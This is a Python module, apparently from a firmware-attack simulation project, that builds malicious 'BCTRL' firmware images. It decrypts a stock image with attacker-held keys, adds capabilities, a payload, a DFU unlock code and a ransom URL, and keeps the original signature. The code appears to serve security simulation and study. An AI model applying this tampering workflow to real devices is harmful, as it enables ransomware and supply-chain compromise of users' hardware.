"""
Module de fabrication des images BCTRL malveillantes.

Ce module contient la modification d'une image BCTRL d'origine : déchiffrement avec les clés connues de
l'attaquant, ajout des capacités et du programme malveillant, recalcul du CRC. La signature d'origine
est recopiée telle quelle; elle ne couvre plus le corps modifié.
"""

from dataclasses import replace

from loguru import logger

from bctrl import BctrlFirmware, FirmwareBodyError, PatchSet, PayloadKind, decode_firmware_body, encode_firmware_body
from fwpipe import DecryptFailedError, FirmwareImage, FirmwareTarget, KeyMaterial, decrypt_body

from .exception_attacks import StockFirmwareEncryptedError

LOGGER = logger.bind(name="BES-Simulation.Attacks.Patcher")


def read_stock_firmware(stock: FirmwareImage, attacker_keys: KeyMaterial) -> BctrlFirmware:
    """
    Rétro-ingénierie d'une image BCTRL d'origine.

    :param stock: L'image publiée par le fabricant.
    :type stock: FirmwareImage
    :param attacker_keys: Les clés connues de l'attaquant.
    :type attacker_keys: KeyMaterial
    :return: Le micrologiciel d'origine.
    :rtype: BctrlFirmware
    :raises StockFirmwareEncryptedError: Si le corps ne peut pas être déchiffré ou décodé.
    :raises ValueError: Si l'image ne cible pas le BCTRL.
    """
    if stock.target != FirmwareTarget.BCTRL:
        raise ValueError(f"Seule une image BCTRL peut être modifiée, cible {stock.target.name} reçue.")

    if stock.encrypted and attacker_keys.tea_key(FirmwareTarget.BCTRL) is None:
        raise StockFirmwareEncryptedError(version=stock.version)

    try:
        return decode_firmware_body(stock.version, decrypt_body(stock, attacker_keys))
    except (DecryptFailedError, FirmwareBodyError) as error:
        raise StockFirmwareEncryptedError(version=stock.version) from error


def patch_stock_image(
    stock: FirmwareImage,
    attacker_keys: KeyMaterial,
    patch_set: PatchSet,
    payload: PayloadKind,
    unlock_code: bytes,
    ransom_url: bytes = b"",
) -> FirmwareImage:
    """
    Fabrique l'image malveillante à partir de l'image d'origine.

    :param stock: L'image publiée par le fabricant.
    :type stock: FirmwareImage
    :param attacker_keys: Les clés connues de l'attaquant.
    :type attacker_keys: KeyMaterial
    :param patch_set: Les capacités ajoutées.
    :type patch_set: PatchSet
    :param payload: Le programme embarqué.
    :type payload: PayloadKind
    :param unlock_code: Le code de déverrouillage DFU.
    :type unlock_code: bytes
    :param ransom_url: Le lien de rançon (UBR).
    :type ransom_url: bytes
    :return: L'image malveillante, en clair, avec la signature d'origine.
    :rtype: FirmwareImage
    :raises StockFirmwareEncryptedError: Si l'image d'origine est chiffrée avec une clé inconnue.
    """
    original = read_stock_firmware(stock, attacker_keys)
    firmware = replace(original, patch_set=patch_set, payload=payload, unlock_code=unlock_code, ransom_url=ransom_url)
    patched = replace(stock.with_body(encode_firmware_body(firmware)), signature=stock.signature)

    LOGGER.info(
        f"Image BCTRL {stock.version} modifiée : capacités {sorted(str(c) for c in patch_set.capabilities)}, "
        f"programme {payload.name}."
    )

    return patched
